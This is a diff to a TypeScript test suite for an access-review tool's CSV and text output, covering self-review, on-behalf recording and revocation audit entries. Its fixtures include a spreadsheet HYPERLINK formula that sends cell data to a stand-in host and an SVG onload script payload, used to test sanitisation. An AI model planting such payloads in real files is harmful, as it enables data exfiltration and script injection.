@@ -59,15 +59,16 @@ describe('review evidence as CSV', () => {
     expect(reasons).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"x") <b>no longer on the team</b>`);
     const hostile = rows.find((r) => r[col('who')] === HOSTILE)!;
     expect(hostile[col('reviewer')]).toBe('<svg onload=alert(3)>');
+    expect(hostile[col('actor')]).toBe('<i>x</i>@cli');
     for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   test('a revocation carries the audit entry that removed it', () => {
     const col = (name: (typeof REVIEW_CSV_HEADER)[number]) => REVIEW_CSV_HEADER.indexOf(name);
     const alice = rows.filter((r) => r[col('who')] === 'alice' && r[col('dataset')] === 'training-data');
-    expect(alice.map((r) => [r[col('reviewer')], r[col('decision')], r[col('self_review')]])).toEqual([
-      ['alice@example.com', 'keep', 'true'],
-      ['carol', 'revoke', 'false'],
+    expect(alice.map((r) => [r[col('reviewer')], r[col('actor')], r[col('on_behalf')], r[col('decision')], r[col('self_review')]])).toEqual([
+      ['alice@example.com', 'alice@example.com', '', 'keep', 'true'],
+      ['carol', 'ci@cli', 'decision recorded on behalf of carol by ci@cli', 'revoke', 'false'],
     ]);
     for (const r of alice) {
       expect(r[col('revocation')]).toBe('removed');
@@ -75,29 +76,40 @@ describe('review evidence as CSV', () => {
       expect(r[col('removed_at')]).toBe('2026-12-03T10:00:00.000Z');
       expect(r[col('removed_by')]).toBe('ci@cli');
       expect(r[col('removal_change')]).toBe('change.delete aws:membership/ml-researchers/alice');
+      expect(r[col('revocation_observed_at')]).toBe(e.checkedAt);
+      expect(r[col('audit_check')]).toBe('ok');
     }
   });
 });
 
 describe('review text', () => {
   test('show numbers the rows, flags self-review and counts what is undecided', () => {
-    const review = fixtureReview([['bob', 'artifacts', 'read', 'keep', 'BOB@example.com']]);
+    const review = fixtureReview([
+      ['bob', 'artifacts', 'read', 'keep', 'BOB@example.com'],
+      ['bob', 'artifacts', 'write', 'keep', 'carol@example.com', 'bob@cli'],
+    ]);
     const rows = reviewRows(review);
     const text = renderReviewShow(review, rows, {
       rows: rows.length,
-      undecided: rows.length - 1,
-      keep: 1,
+      undecided: rows.length - 2,
+      keep: 2,
       revoke: 0,
       contested: 0,
-      selfReviewOnly: 1,
-      selfReviews: 1,
+      selfReviewOnly: 2,
+      selfReviews: 2,
       removed: 0,
       present: 0,
     });
     expect(text).toMatch(/^9 +- +read +training-data \(aws\) +alice +both$/m);
     expect(text).toMatch(/^12 +- +read +training-data \(aws\) +mallory \(aws-user, not datagrant's\) +actual$/m);
-    expect(text).toMatch(/keep by BOB@example.com \(SELF-REVIEW\) at 2026-12-01T00:00:00.000Z \(audit #11\): keep: quarterly review/);
-    expect(text).toContain(`${rows.length} row(s): 1 keep, 0 revoke, ${rows.length - 1} undecided; 1 decided only by self-review.`);
+    expect(text).toMatch(
+      /keep by BOB@example.com \(recorded by BOB@example.com\) \(SELF-REVIEW\) at 2026-12-01T00:00:00.000Z \(audit #\d+\): keep: quarterly review/,
+    );
+    // bob records a keep on his own write access in carol's name: on her behalf, and his self-review.
+    expect(text).toMatch(
+      /keep by carol@example.com \(decision recorded on behalf of carol@example.com by bob@cli\) \(SELF-REVIEW\) at 2026-12-01T00:00:00.000Z/,
+    );
+    expect(text).toContain(`${rows.length} row(s): 2 keep, 0 revoke, ${rows.length - 2} undecided; 2 decided only by self-review.`);
   });
 
   test('status names the entry of each removal, and what is still held', () => {
@@ -106,6 +118,7 @@ describe('review text', () => {
       /#\d+ removed {2}read on training-data \(aws\) for alice\n {4}audit #20 2026-12-03T10:00:00.000Z by ci@cli: change.delete aws:membership\/ml-researchers\/alice \(hash b{64}\)/,
     );
     expect(text).toMatch(/#\d+ STILL HELD {2}read on artifacts \(aws\) for .*not datagrant's\)/);
+    expect(text).toMatch(/removed by change.delete aws:membership\/ml-researchers\/alice \(audit #20\)\n {4}observed gone at \S+\n/);
     expect(text).toContain('1 of 2 revocation(s) in effect; 1 still held.');
   });
 });
